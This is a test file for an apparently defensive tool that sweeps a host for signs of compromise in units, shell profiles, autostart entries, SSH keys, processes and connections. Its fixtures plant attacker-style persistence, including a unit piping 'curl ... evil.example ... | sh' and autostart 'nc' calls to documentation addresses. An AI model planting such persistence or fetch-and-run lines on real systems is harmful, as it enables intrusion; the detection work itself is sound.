/** Traces on a host of the test's own: its directories of units and its homes, besides the machine's own /etc and processes. */
import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { copyFileSync, rmSync, symlinkSync, truncateSync } from 'node:fs';
import { createConnection, createServer } from 'node:net';
import { once } from 'node:events';
import { join } from 'node:path';
import { expect, onTestFinished, test } from 'vitest';
import type { ActionContext, Change } from '../../src/actions/index.ts';
import { checked, indicatorsOfUnit, NO_INDICATORS, reasonsIn, sameAddress } from '../../src/actions/sweep-indicators.ts';
import { sweepLocal } from '../../src/actions/sweep-local.ts';
import type { Trace } from '../../src/actions/sweep-search.ts';
import { temporaryDirectory } from '../helpers/events.ts';
import { contextFor, hostIn, plant, snapshot } from '../helpers/response.ts';
import { EVIL_KEY as KEY } from '../helpers/ssh-keys.ts';

/** In documentation only (RFC 5737). */
const ADDRESS = '203.0.113.77';

function setUp(files: Record<string, string>): { root: string; context: ActionContext } {
  const root = temporaryDirectory();
  plant(root, files);
  const host = hostIn(root);
  const users = [{ name: 'mallory', uid: 54_321, gid: 54_321, gecos: '', home: join(root, 'home'), shell: '/bin/sh' }];
  return { root, context: contextFor({ ...host, users }, join(root, 'etc/evil.timer')) };
}

async function sweep(params: object, context: ActionContext): Promise<{ traces: Trace[]; remarks: string[]; verdict: string }> {
  const plan = await sweepLocal.plan(sweepLocal.params.parse(params), context);
  expect(plan).toMatchObject({ state: 'ready' });
  const changes: Change[] = [];
  const remarks = await sweepLocal.apply(plan, context, (change) => changes.push(change));
  expect(changes.map(({ data, text }) => [data['kind'], text])).toEqual(plan.data.traces.map(() => ['trace', undefined]));
  return { traces: plan.data.traces, remarks, verdict: (await sweepLocal.verify(plan, context)).text };
}

test('every place is looked into, by name, path, hash, command, address and key, and nothing is changed', async () => {
  const copy = '[Service]\nExecStart=/bin/true same content\n';
  const { root, context } = setUp({
    'etc/evil.timer': '[Timer]\nUnit=evil.service\n',
    'usr/evil.timer': '[Timer]\nOnCalendar=daily\n',
    'etc/by-hash.service': copy,
    'etc/by-path.service': '[Service]\nExecStart=/opt/.hidden-drop/run --now\n',
    'etc/good.service.d/x.conf': `[Service]\nExecStartPost=curl http://${ADDRESS}:8080/x\n`,
    'etc/good.service': '[Service]\nExecStart=/bin/true\n',
    'home/.bashrc': '(/opt/.hidden-drop/run &) >/dev/null\n',
    'home/.config/autostart/x.desktop': `[Desktop Entry]\nExec=nc ${ADDRESS} 443\n`,
    'home/.ssh/authorized_keys': `# keys\ncommand="x" ssh-ed25519 ${KEY} m\n`,
    'home/.profile': `# 1${ADDRESS} and ${ADDRESS}7 and ${ADDRESS}.example are others\n`,
  });
  const before = snapshot(root);
  const { traces, verdict, remarks } = await sweep({ paths: ['/opt/.hidden-drop/run'], hashes: [createHash('sha256').update(copy).digest('hex').toUpperCase()], addresses: [ADDRESS], keys: [KEY], days: 0 }, context);
  const found = Object.fromEntries(traces.filter((trace) => trace.where.startsWith(root)).map(({ where, place, why }) => [where.slice(root.length + 1), `${place}: ${why}`]));
  expect(found).toEqual({
    'etc/evil.timer': expect.stringMatching(/^unit: has the name of the unit evil\.timer; is the path itself; has the hash [0-9a-f]{64}$/),
    'usr/evil.timer': 'unit: has the name of the unit evil.timer',
    'etc/by-hash.service': expect.stringMatching(/^unit: has the hash/),
    'etc/by-path.service': 'unit: names the path /opt/.hidden-drop/run',
    'etc/good.service.d/x.conf': `unit: names the address ${ADDRESS}`,
    'home/.bashrc': 'shell: names the path /opt/.hidden-drop/run',
    'home/.config/autostart/x.desktop': `autostart: names the address ${ADDRESS}`,
    'home/.ssh/authorized_keys': expect.stringMatching(/^ssh: lets in the key SHA256:/),
  });
  expect(verdict).toMatch(/^\d+ traces were found: .*5 unit/);
  expect(remarks.join('\n')).toContain(`shell: ${join(root, 'home/.bashrc')} names the path /opt/.hidden-drop/run`);
  expect(snapshot(root)).toEqual(before);
});

test('a unit of no package that was written lately is a trace, also where its time was set back', async () => {
  const { root, context } = setUp({ 'etc/evil.timer': '[Timer]\n', 'etc/set-back.service': '[Service]\n' });
  const { traces } = await sweep({ days: 1 }, context);
  expect(traces.filter((trace) => trace.where === join(root, 'etc/set-back.service'))).toEqual([{ place: 'unit', where: join(root, 'etc/set-back.service'), why: expect.stringMatching(/^was written or changed at \d/) }]);
  expect((await sweep({ days: 0 }, context)).traces.some((trace) => trace.where.endsWith('set-back.service'))).toBe(false);
});

test('a process is known by its command, and by the hash of a program whose file is gone', async () => {
  const { root, context } = setUp({});
  copyFileSync('/bin/sleep', join(root, 'kworker'));
  const child = spawn(join(root, 'kworker'), ['1234.567'], { stdio: 'ignore' });
  onTestFinished(() => void child.kill('SIGKILL'));
  await once(child, 'spawn');
  const hash = spawnSync('sha256sum', [join(root, 'kworker')], { encoding: 'utf8' }).stdout.slice(0, 64);
  rmSync(join(root, 'kworker'));
  const { traces } = await sweep({ commands: ['kworker 1234.567'], hashes: [hash], from_alert: false, days: 0 }, context);
  expect(traces.find((trace) => trace.where.startsWith(`pid ${child.pid} `))).toMatchObject({ place: 'process', why: expect.stringMatching(new RegExp(`runs a program with the hash ${hash}.*has the command kworker 1234.567`)) });
});

test('a connection is known by its address, however that is written', async () => {
  const { context } = setUp({});
  const server = createServer().listen(0, '127.0.0.77');
  await once(server, 'listening');
  const { port } = server.address() as { port: number };
  const client = createConnection(port, '127.0.0.77');
  onTestFinished(() => void (client.destroy(), server.close()));
  await once(client, 'connect');
  const { traces } = await sweep({ addresses: ['::ffff:127.0.0.77'], from_alert: false, days: 0 }, context);
  expect(traces).toContainEqual({ place: 'socket', where: expect.stringMatching(new RegExp(`^tcp .* to 127\\.0\\.0\\.77 port ${port}$`)), why: expect.stringContaining(`held by pid ${process.pid}`) });
});

test('FIFOs, links, huge files and odd names neither stop nor fool the search', async () => {
  const { root, context } = setUp({ 'etc/evil.timer': '[Timer]\n', 'etc/link.service': '-> /dev/zero', 'etc/big.service': '[Service]\n', 'etc/\u001b[2J\nunit: fake.service': '[Service]\nExecStart=/opt/.hidden-drop/run\n' });
  spawnSync('mkfifo', [join(root, 'etc/fifo.service')]);
  truncateSync(join(root, 'etc/big.service'), 4 * 1024 ** 3);
  symlinkSync('/', join(root, 'etc/loop.d'));
  const { traces, remarks, verdict } = await sweep({ paths: ['/opt/.hidden-drop/run'], days: 0 }, context);
  // What stands behind so much is not read, and that is said.
  expect(remarks).toContainEqual(expect.stringMatching(new RegExp(`^too large to be read to the end, look at the rest by hand: (?:.*, )?${join(root, 'etc/big.service')}`)));
  expect(verdict).toMatch(/; not everything was looked into$/);
  expect(traces.filter((trace) => trace.where.startsWith(root)).map((trace) => trace.where.slice(root.length + 5)).toSorted()).toEqual(['\u001b[2J\nunit: fake.service', 'evil.timer']);
  expect(remarks.join('').includes('\u001b')).toBe(false);
});

test('an indicator that means nothing is left out and said; with none there is nothing to do', async () => {
  const { context } = setUp({});
  expect(await sweepLocal.plan(sweepLocal.params.parse({ from_alert: false, hashes: ['abc'], commands: ['sh'], keys: ['x'] }), context)).toMatchObject({ state: 'nothing-to-do', notes: expect.arrayContaining([expect.stringContaining('"sh" is not looked for')]), reason: 'there is nothing to look for' });
  expect(checked({ ...NO_INDICATORS, hashes: ['abc'], paths: ['relative', '/etc/x'] })).toEqual({ indicators: { ...NO_INDICATORS, paths: ['/etc/x'] }, notes: [expect.stringContaining('"relative"'), expect.stringContaining('"abc"')] });
});

test('a unit tells its commands, the paths in them that are not everybody\'s, and addresses', () => {
  const unit = "[Service]\nExecStart=-/bin/sh -c 'curl -s http://user@evil.example:8080/x | sh; /tmp/.x/run --a=/var/tmp/y'\nExecStartPre=/usr/bin/nc 203.0.113.7 443\nExecStop=/bin/true 127.0.0.1\n";
  expect(indicatorsOfUnit(Buffer.from(unit))).toEqual({
    commands: ['/bin/sh -c curl -s http://user@evil.example:8080/x | sh; /tmp/.x/run --a=/var/tmp/y', '/usr/bin/nc 203.0.113.7 443', '/bin/true 127.0.0.1'],
    paths: ['/tmp/.x/run', '/var/tmp/y'],
    addresses: ['evil.example', '203.0.113.7'],
  });
});

test.each([
  ['203.0.113.7', 'socat TCP:203.0.113.7:443', true],
  ['203.0.113.7', 'x1203.0.113.7', false],
  ['203.0.113.7', '203.0.113.70', false],
  ['203.0.113.7', 'at 203.0.113.7.', true],
  ['evil.example', 'https://evil.example/x', true],
  ['evil.example', 'notevil.example', false],
  ['evil.example', 'evil.example.org', false],
  ['2001:db8::1', 'nc [2001:db8::1] 443', true],
  ['2001:db8::1', '2001:db8::12', false],
  ['a.*b', 'axxb', false],
])('the address %s in "%s": %s', (address, text, expected) => {
  expect(reasonsIn(text, { ...NO_INDICATORS, addresses: [address] }).length > 0).toBe(expected);
});

test('one address has many forms', () => {
  expect([sameAddress('::ffff:192.0.2.1', '192.0.2.1'), sameAddress('2001:db8:0:0::1', '2001:db8::1'), sameAddress('192.0.2.1', '192.0.2.2'), sameAddress('x', '')]).toEqual([true, true, false, false]);
});
